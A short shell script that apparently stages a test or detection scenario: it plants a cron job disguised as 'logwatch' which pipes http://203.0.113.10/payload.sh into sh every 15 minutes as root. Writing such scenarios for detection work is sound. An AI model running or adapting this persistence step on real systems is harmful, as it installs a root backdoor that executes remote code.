#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/periodic/15min /var/spool/cron/crontabs
printf '#!/bin/sh\nwget -qO- http://203.0.113.10/payload.sh | sh\n' >/etc/periodic/15min/logwatch
chmod +x /etc/periodic/15min/logwatch
grep -qs periodic /var/spool/cron/crontabs/root || echo '*/15 * * * * run-parts /etc/periodic/15min' >>/var/spool/cron/crontabs/root
took_place
